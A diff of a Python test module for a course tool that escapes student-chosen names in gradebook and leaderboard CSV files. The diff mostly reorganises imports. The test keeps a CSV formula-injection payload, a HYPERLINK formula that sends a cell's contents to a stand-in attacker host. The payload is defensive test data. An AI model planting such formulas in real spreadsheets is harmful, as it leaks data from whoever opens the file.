@@ -1,4 +1,5 @@
-"""instructor.reports: one escaping function, and CSV cells a spreadsheet never runs as formulas.
+"""instructor.reports.gradebook: one escaping function, and CSV cells a spreadsheet never runs as
+formulas.
 
 A student chooses the file name the gradebook shows and the name.txt the leaderboard shows; a
 cell starting with ``=``, ``+``, ``-`` or ``@`` would run as a formula when the instructor opens
@@ -13,14 +14,11 @@ import math
 import pytest
 
 from helpers.competition import Entry
-from instructor.board_reports import (
-    TIE_BITS,
-    TIE_NOTE,
-    leaderboard_markdown,
-    write_leaderboard_csv,
-)
-from instructor.grading import GradeRow
-from instructor.reports import plain, write_gradebook_csv, write_lms_csv
+from instructor.grading.verdicts import GradeRow
+from instructor.reports.board import leaderboard_markdown, write_leaderboard_csv
+from instructor.reports.board_ranking import TIE_BITS, TIE_NOTE
+from instructor.reports.gradebook import write_gradebook_csv, write_lms_csv
+from instructor.reports.plain import plain
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
